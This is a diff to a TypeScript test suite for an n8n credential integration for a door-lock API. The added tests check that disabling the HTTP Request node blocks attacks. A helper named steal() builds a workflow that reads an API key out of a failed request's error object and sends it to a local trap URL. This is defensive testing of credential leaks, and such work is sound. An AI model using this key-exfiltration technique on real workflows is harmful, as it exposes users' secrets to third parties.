@@ -124,6 +124,39 @@ describe.each(settings)('changes: $changes, unlock: $unlock', (permissions) => {
 	});
 });
 
+describe("with 'HTTP Request Node' off", () => {
+	let emulator: Emulator;
+	let credential: Credentials;
+	beforeAll(async () => {
+		emulator = await startEmulator();
+		stops.push(emulator.stop);
+		credential = await credentialFor(emulator, { changes: 'all', unlock: 'any' }, false);
+	});
+
+	it('lets nothing through, whatever else is allowed', async () => {
+		const outputs = await runAll(allAttacks, aimsAt(emulator), credential);
+		for (const [
+			index,
+			{ name, refusedByN8n = "'HTTP Request Node' is off" },
+		] of allAttacks.entries()) {
+			expect([name, outputs[index]!.includes(refusedByN8n)]).toEqual([name, true]);
+			expect([name, outputs[index]!.includes(emulator.credential.apiKey)]).toEqual([name, false]);
+		}
+		expect(emulator.journal).toEqual([]);
+		expect([...elsewhere.caught, ...proxy.caught]).toEqual([]);
+	});
+
+	it('gives nobody the key, as n8n does with it on', async () => {
+		const thief: Trap = await setTrap();
+		const anyone = { changes: 'none', unlock: 'none' } as const;
+		for (const on of [false, true]) {
+			await steal(emulator, await credentialFor(emulator, anyone, on), thief.url);
+			const hasKey = thief.caught.some((one) => one.includes(emulator.credential.apiKey));
+			expect([on, thief.caught.length > 0, hasKey]).toEqual([on, true, on]);
+		}
+	});
+});
+
 it.each([
 	['a change', 'a change', "does not allow changes: its 'Changes' is None"],
 	['an unlock', 'another door', "does not allow to unlock doors: its 'Unlock' is None"],
@@ -217,11 +250,16 @@ function aimsAt({ building, credential: { baseUrl } }: Emulator): Aims {
 	};
 }
 
-function credentialFor(emulator: Emulator, permissions: Permissions): Promise<Credentials> {
+function credentialFor(
+	emulator: Emulator,
+	permissions: Permissions,
+	httpRequestNode = true,
+): Promise<Credentials> {
 	return addCredential(demo.n8n, 'Lockt', 'locktApi', {
 		...emulator.credential,
 		...permissions,
 		unlockDoors: aimsAt(emulator).listed,
+		httpRequestNode,
 	});
 }
 
@@ -250,6 +288,19 @@ async function setTrap(): Promise<Trap> {
 	return { url: `http://127.0.0.1:${(server.address() as AddressInfo).port}`, caught };
 }
 
+/** A request that gets no answer in time, and one to somebody else with what its error holds. */
+async function steal(emulator: Emulator, credential: Credentials, to: string): Promise<void> {
+	const common = { method: 'GET', options: { timeout: 1 } };
+	const fails = {
+		name: 'Fails',
+		version: 4.5,
+		parameters: () => ({ ...common, url: `${emulator.credential.baseUrl}/door` }),
+	};
+	const key = '{{ $json.error.cause?.options?.headers?.apikey }}';
+	const tells = node('Tells', 'httpRequest', 4.5, { url: `=${to}/?key=${key}` });
+	await runWorkflow([fails], aimsAt(emulator), credential, 'continueRegularOutput', tells);
+}
+
 /** Runs all attacks, whatever becomes of each. @returns what each gave, as text */
 async function runAll(attacks: Attack[], aims: Aims, credential: Credentials): Promise<string[]> {
 	const { runData } = await runWorkflow(attacks, aims, credential, 'continueRegularOutput');
@@ -261,12 +312,17 @@ interface Result {
 	runData: Record<string, Array<{ data?: { main: unknown[][] } }>>;
 }
 
-/** Runs one workflow with an HTTP Request node for each attack, one after the other. */
+/**
+ * Runs one workflow with an HTTP Request node for each attack, one after the other.
+ *
+ * @param afterwards a node that gets what the first of them gave
+ */
 async function runWorkflow(
-	attacks: Attack[],
+	attacks: Array<Pick<Attack, 'name' | 'version' | 'parameters'>>,
 	aims: Aims,
 	credential: Credentials,
 	onError: 'stopWorkflow' | 'continueRegularOutput',
+	afterwards?: ReturnType<typeof node>,
 ): Promise<Result> {
 	const { n8n } = demo;
 	const text = JSON.stringify({ text: `{"doors":[{"id":${aims.other}}]}` });
@@ -293,11 +349,12 @@ async function runWorkflow(
 	});
 	const workflow = {
 		name: 'HTTP requests',
-		nodes: [...before, ...requests],
+		nodes: [...before, ...requests, ...(afterwards ? [afterwards] : [])],
 		connections: {
 			Start: to('Text'),
 			Text: to('File'),
 			File: to(...requests.map(({ name }) => name)),
+			...(afterwards && { [requests[0]!.name]: to(afterwards.name) }),
 		},
 		settings: { executionOrder: 'v1' as const },
 	};
